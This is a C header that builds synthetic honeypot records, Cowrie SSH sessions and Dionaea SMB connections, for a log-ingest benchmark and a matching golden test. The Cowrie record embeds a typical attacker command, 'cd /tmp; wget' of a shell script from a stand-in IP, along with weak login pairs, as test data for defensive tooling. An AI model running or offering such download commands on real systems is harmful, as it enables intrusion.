/*
 * The ingest benchmark's payloads, shared with the adapter golden test
 * (tests/unit/collector/test_adapt_golden.c) so that what is timed is also
 * what is checked byte for byte.
 */
#ifndef AP_INGEST_PAYLOAD_H
#define AP_INGEST_PAYLOAD_H

#include <stddef.h>
#include <stdio.h>

/* Payload i: even = cowrie session (8 events), odd = dionaea connection
 * (1 event).  Distinct addresses, ports and session ids. */
static inline int
ingest_payload(long i, const char **chan, char *buf, size_t len)
{
    unsigned a = (unsigned)i * 2654435761u;

    if (i % 2 == 0) {
        *chan = "cowrie.sessions";
        return snprintf(
            buf, len,
            "{\"session\":\"%012lx\",\"startTime\":\"2026-11-29T07:%02ld:%02ld."
            "%06ldZ\",\"endTime\":\"2026-11-29T07:%02ld:%02ld.%06ldZ\","
            "\"peerIP\":\"%u.%u.%u.%u\",\"peerPort\":%ld,\"hostIP\":"
            "\"10.0.0.5\",\"hostPort\":22,\"loggedin\":[\"root\",\"admin%ld\"],"
            "\"credentials\":[[\"root\",\"123456\"],[\"admin\",\"pass%ld\"]],"
            "\"commands\":[\"uname -a\",\"cd /tmp; wget http://203.0.113.9/"
            "x%ld.sh\"],\"unknownCommands\":[],\"urls\":[],\"version\":"
            "\"SSH-2.0-OpenSSH_7.4\",\"ttylog\":null,\"hashes\":[],"
            "\"protocol\":\"ssh\"}",
            i, (i / 60) % 60, i % 60, i % 1000000, (i / 60) % 60, i % 60,
            (i + 500000) % 1000000, 1 + (a >> 24) % 223, (a >> 16) & 255,
            (a >> 8) & 255, a & 255, 1024 + i % 60000, i % 97, i % 1009, i);
    }
    *chan = "dionaea.connections";
    return snprintf(buf, len,
                    "{\"connection_type\":\"accept\",\"local_host\":"
                    "\"::ffff:10.0.0.6\",\"connection_protocol\":\"smbd\","
                    "\"remote_port\":%ld,\"local_port\":445,\"remote_hostname\":"
                    "\"\",\"connection_transport\":\"tcp\",\"remote_host\":"
                    "\"::ffff:%u.%u.%u.%u\",\"seq\":%ld}",
                    1024 + i % 60000, 1 + (a >> 24) % 223, (a >> 16) & 255,
                    (a >> 8) & 255, a & 255, i);
}

#endif
